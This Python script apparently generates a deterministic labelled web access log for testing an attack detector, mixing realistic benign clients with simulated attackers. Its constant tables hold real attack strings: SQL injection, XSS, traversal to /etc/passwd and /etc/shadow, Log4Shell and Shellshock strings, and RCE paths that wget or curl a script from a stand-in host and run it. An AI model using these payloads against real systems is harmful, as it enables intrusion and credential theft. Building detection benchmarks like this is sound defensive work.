"""Deterministic labelled dev set: every attack type of the taxonomy mixed into realistic benign traffic.

Benign: browsers fetching pages and their assets (bench/loggen.py), plus the heavy legitimate users
that fool a pure anomaly detector: a monitoring probe every 10 s, an image-heavy user, an API client,
legitimate search engine crawlers, a user who mistypes a password, an office on a private network,
and a feed reader polling all day. Attackers: several clients per attack type, with realistic timing
and tools' user agents (and browser user agents where real attackers use them).

    python bench/make_labelled.py --lines 200000 --seed 0 -o dev.log --labels dev_labels.csv
"""
from __future__ import annotations

import argparse
from urllib.parse import quote

import numpy as np
import polars as pl
from loggen import BROWSERS, SCANNER_PATHS, START, TZ, _benign, _ips

CHROME = BROWSERS[0]
SQLI = ("1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1' AND SLEEP(5)--", "1; DROP TABLE users--",
        "1' AND extractvalue(1,concat(0x7e,version()))--", "-1' UNION ALL SELECT NULL,NULL,@@version#",
        "1' ORDER BY 3--", "admin'--", "1 AND 1=1", "1' WAITFOR DELAY '0:0:5'--")
XSS = ("<script>alert(1)</script>", "\"><svg/onload=alert(document.domain)>", "<img src=x onerror=prompt(1)>",
       "javascript:alert(document.cookie)", "'><iframe src=javascript:alert(1)>", "<body onload=alert('x')>")
TRAVERSAL = ("../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fshadow",
             "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php")
RCE_PATHS = ("/cgi-bin/status", "/index.php?cmd=;cat%20/etc/passwd", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
             "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
             "/shell?cd+/tmp;wget+http://198.51.100.7/x.sh;sh+x.sh", "/ping.php?host=127.0.0.1|whoami",
             "/api/run?q=$(curl%20http://198.51.100.7/a)")
RCE_AGENTS = ("${jndi:ldap://198.51.100.7:1389/a}", "() { :; }; /bin/bash -c 'wget http://198.51.100.7/b'", CHROME)
BRUTE_DIRS = ("admin", "backup", "old", "test", "dev", "staging", "api", "private", "uploads", "tmp", "logs", "db",
              "config", "inc", "includes", "cgi", "portal", "secret", "files", "data", "export", "cms", "panel")


def _frame(ip: str, seconds: np.ndarray, path, method="GET", status=200, size=1500, ua=CHROME, referer="-") -> pl.DataFrame:
    n = len(seconds)
    def column(value):
        return np.broadcast_to(np.asarray(value), (n,)).copy()
    return pl.DataFrame({"ip": ip, "seconds": seconds, "method": column(method), "path": column(path),
                         "status": column(status).astype(np.int64), "bytes": column(size).astype(np.int64),
                         "referer": column(referer), "ua": column(ua)})


def _times(rng, start: float, n: int, mean_gap: float) -> np.ndarray:
    return start + np.cumsum(rng.exponential(mean_gap, n))


def _pick(rng, options, n):
    return np.array(options)[rng.integers(0, len(options), n)]


def heavy_benign(rng: np.random.Generator, ips: list[str]) -> tuple[list[pl.DataFrame], list[tuple[str, str]]]:
    """Legitimate clients that look unusual: (frames, [(ip, note)])."""
    probe, images, api, google, bing, typo, office, feed = ips
    day = 86400.0
    frames = [
        _frame(probe, np.arange(0, day, 10.0), "/healthz", ua="Blackbox-Exporter/0.25.0", size=2),
        _frame(images, _times(rng, 40000, 400, 2.0), np.char.add("/gallery/photo-", rng.integers(1, 900, 400).astype(str)
               ).astype(object) + ".jpg", size=rng.integers(2_000_000, 4_000_000, 400), referer="https://shop.example.com/gallery"),
        _frame(api, _times(rng, 20000, 6000, 5.0), np.char.add("/api/v1/items?id=", rng.integers(1, 5000, 6000).astype(str)),
               method=_pick(rng, ["GET", "GET", "GET", "POST"], 6000), ua="python-requests/2.32.3", size=800),
        _frame(google, _times(rng, 1000, 1500, 40.0), np.char.add("/blog/post-", rng.integers(1, 400, 1500).astype(str)),
               status=rng.choice([200, 404], 1500, p=[0.99, 0.01]),
               ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        _frame(bing, _times(rng, 5000, 600, 90.0), np.char.add("/products/item-", rng.integers(1, 8, 600).astype(str)),
               ua="Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
        pl.concat([_frame(typo, _times(rng, 36000, 3, 8.0), "/login", method="POST", status=[401, 401, 302]),
                   _frame(typo, _times(rng, 36100, 40, 20.0), "/account/orders")]),
        _frame(office, _times(rng, 30000, 900, 30.0), _pick(rng, ["/", "/products/item-2", "/static/css/site.css",
               "/static/js/app.js", "/blog/post-3"], 900), ua=BROWSERS[1]),
        _frame(feed, np.arange(0, day, 300.0), "/feed.xml", ua="Feedly/1.0 (+http://www.feedly.com/fetcher.html)", size=40000),
    ]
    return frames, [(ip, "benign") for ip in ips]


def _payload_attack(rng, ip, start, n, base, payloads, param, ua=CHROME, gap=3.0):
    values = [quote(p, safe="/:") if "%" not in p else p for p in _pick(rng, payloads, n)]
    paths = [f"{base}?{param}={v}" for v in values]
    return _frame(ip, _times(rng, start, n, gap), np.array(paths, dtype=object),
                  status=rng.choice([200, 500, 403], n, p=[0.6, 0.3, 0.1]), ua=ua)


def attackers(rng: np.random.Generator, ips: list[str]) -> tuple[list[pl.DataFrame], list[tuple[str, str]]]:
    """Three clients per attack type, each with its own timing, plus quieter ones: (frames, labels)."""
    it = iter(ips)
    frames, labels = [], []
    def add(kind, frame):
        frames.append(frame)
        labels.append((frame["ip"][0], kind))
    for k in range(3):
        start = 3600.0 * (2 + 6 * k) + rng.uniform(0, 3000)
        add("sqli", _payload_attack(rng, next(it), start, int(rng.integers(30, 200)), "/products/item-3", SQLI, "id",
                                    ua=("sqlmap/1.8#stable (https://sqlmap.org)", CHROME, BROWSERS[2])[k]))
        add("xss", _payload_attack(rng, next(it), start + 900, int(rng.integers(15, 80)), "/search", XSS, "q", gap=8.0))
        add("path_traversal", _payload_attack(rng, next(it), start + 1800, int(rng.integers(10, 60)), "/download",
                                              TRAVERSAL, "file"))
        rce = next(it)
        add("rce", _frame(rce, _times(rng, start + 2400, 30, 4.0), _pick(rng, RCE_PATHS, 30),
                          status=rng.choice([404, 403, 500], 30), ua=RCE_AGENTS[k]))
        add("scanner", _scanner(rng, next(it), start + 600, k))
        add("dir_bruteforce", _dir_bruteforce(rng, next(it), start + 1200, k))
        n = int(rng.integers(80, 400))
        add("brute_force", _frame(next(it), _times(rng, start + 300, n, 1.5), ("/wp-login.php", "/login", "/user/login")[k],
                                  method="POST", status=rng.choice([200, 401], n),
                                  ua=("python-requests/2.31.0", CHROME, "curl/8.5.0")[k]))
        n = int(rng.integers(15, 40))
        add("credential_stuffing", _frame(next(it), _times(rng, start, n, 150.0), "/login", method="POST",
                                          status=rng.choice([200, 401], n), ua=BROWSERS[k + 3]))
        add("dos", _frame(next(it), start + rng.uniform(0, 600) + np.sort(rng.uniform(0, 60 + 60 * k, 2000 + 1000 * k)),
                          ("/", "/search?q=a", "/products/item-1")[k], ua=(CHROME, "Go-http-client/1.1", "-")[k], size=14000))
        add("bad_bot", _bad_bot(rng, next(it), start + 1500, k))
        n = int(rng.integers(40, 120))
        add("data_exfiltration", _frame(next(it), _times(rng, start + 2000, n, 20.0),
                                        np.char.add("/export/customers.csv?page=", np.arange(1, n + 1).astype(str)),
                                        size=rng.integers(20_000_000, 60_000_000, n), ua=("curl/8.5.0", CHROME, "Wget/1.21")[k]))
    for kind, frame in _hard(rng, it):
        add(kind, frame)
    return frames, labels


def _hard(rng, it):
    """Quieter attackers near the detection limits (the last one is below them: 5 logins in 2 hours)."""
    start = 3600.0 * 15
    slow_paths = np.char.add(np.char.add("/", _pick(rng, BRUTE_DIRS, 200)), np.arange(200).astype(str))
    return [
        ("dir_bruteforce", _frame(next(it), _times(rng, start, 200, 5.0), slow_paths, status=404, ua=CHROME)),
        ("sqli", _payload_attack(rng, next(it), start + 100, 2, "/products/item-2", SQLI, "id", gap=30.0)),
        ("credential_stuffing", _frame(next(it), _times(rng, start, 9, 300.0), "/login", method="POST",
                                       status=rng.choice([200, 401], 9), ua=BROWSERS[5])),
        ("dos", _frame(next(it), start + np.sort(rng.uniform(0, 600, 1800)), "/search?q=shoes", ua=BROWSERS[2])),
        ("data_exfiltration", _frame(next(it), _times(rng, start, 25, 120.0),
                                     np.char.add("/export/invoices.zip?part=", np.arange(25).astype(str)),
                                     size=rng.integers(8_000_000, 9_000_000, 25), ua=CHROME)),
        ("credential_stuffing", _frame(next(it), _times(rng, start, 5, 1400.0), "/login", method="POST",
                                       status=401, ua=BROWSERS[6])),
    ]


def _scanner(rng, ip, start, k):
    n = 600
    paths = np.where(rng.random(n) < 0.5, _pick(rng, SCANNER_PATHS, n),
                     np.char.add("/", rng.integers(10**5, 10**6, n).astype(str)))
    ua = ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4)",
          CHROME)[k]
    if k == 2:   # a scanner behind a browser user agent: found by the breadth of what it tries
        paths = np.concatenate([paths[:500], [f"/search?q={quote(p)}" for p in SQLI + XSS],
                                [f"/download?file={p}" for p in TRAVERSAL], list(RCE_PATHS)])[:n]
    return _frame(ip, start + np.sort(rng.uniform(0, 400, len(paths))), paths,
                  status=rng.choice([404, 403, 200], len(paths), p=[0.85, 0.1, 0.05]), ua=ua, size=300)


def _dir_bruteforce(rng, ip, start, k):
    n = int(rng.integers(300, 900))
    words = np.char.add(np.char.add("/", _pick(rng, BRUTE_DIRS, n)), rng.integers(0, 400, n).astype(str))
    ua = ("gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", CHROME)[k]
    return _frame(ip, start + np.sort(rng.uniform(0, 120 + 200 * k, n)), words,
                  status=rng.choice([404, 403, 301], n, p=[0.95, 0.03, 0.02]), ua=ua, size=200)


def _bad_bot(rng, ip, start, k):
    if k == 0:   # secret-file prober with a mass-scanner agent
        return _frame(ip, _times(rng, start, 25, 2.0), _pick(rng, ["/.env", "/.git/config", "/wp-config.php.bak",
                      "/phpmyadmin/", "/.aws/credentials", "/backup.sql"], 25), status=404, ua="Mozilla/5.0 zgrab/0.x")
    if k == 1:   # fake Googlebot probing WordPress logins
        return _frame(ip, _times(rng, start, 12, 5.0), _pick(rng, ["/wp-login.php", "/xmlrpc.php", "/wp-admin/"], 12),
                      status=404, ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    n = 300      # scraper rotating user agents
    return _frame(ip, _times(rng, start, n, 1.0), np.char.add("/products/item-", rng.integers(1, 8, n).astype(str)),
                  ua=_pick(rng, BROWSERS, n))


def generate(n_lines: int = 200_000, seed: int = 0) -> tuple[pl.Series, pl.DataFrame]:
    """(log lines in time order, labels ip/label/attack_type) -- identical for the same arguments."""
    rng = np.random.default_rng(seed)
    n_clients = max(60, n_lines // 300)
    ips = list(_ips(rng, n_clients + 50))
    public, special = ips[:n_clients], ips[n_clients:]
    # probe, image-heavy user, API client, Googlebot, bingbot, password typo, private office, feed reader
    heavy_ips = special[:3] + ["66.249.66.17", "157.55.39.42", special[3], "10.20.0.15", special[4]]
    frames = [_benign(rng, n_lines, np.array(public))]
    heavy, benign_labels = heavy_benign(rng, heavy_ips)
    attack, attack_labels = attackers(rng, special[5:])
    frame = pl.concat(frames + heavy + attack, how="vertical_relaxed")
    stamp = (pl.lit(START) + pl.duration(microseconds=(pl.col("seconds") * 1e6).cast(pl.Int64)))
    stamp = stamp.dt.replace_time_zone(TZ).dt.strftime("%d/%b/%Y:%H:%M:%S %z")
    frame = frame.sort("seconds", "ip", maintain_order=True)
    lines = frame.select(pl.format('{} - - [{}] "{} {} HTTP/1.1" {} {} "{}" "{}"', "ip", stamp, "method", "path",
                                   "status", "bytes", "referer", "ua").alias("line")).to_series()
    rows = [(ip, "benign", "") for ip in public] + [(ip, "benign", "") for ip, _ in benign_labels]
    rows += [(ip, "attack", kind) for ip, kind in attack_labels]
    seen = set(frame["ip"].unique().to_list())
    labels = pl.DataFrame(rows, schema=["ip", "label", "attack_type"], orient="row")
    return lines, labels.filter(pl.col("ip").is_in(seen)).sort("ip")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--lines", type=int, default=200_000, help="benign browser lines (heavy users and attackers added)")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("-o", "--output", required=True)
    parser.add_argument("--labels", required=True)
    args = parser.parse_args()
    lines, labels = generate(args.lines, args.seed)
    with open(args.output, "w", encoding="utf-8") as handle:
        handle.write("\n".join(lines.to_list()) + "\n")
    labels.write_csv(args.labels)


if __name__ == "__main__":
    main()
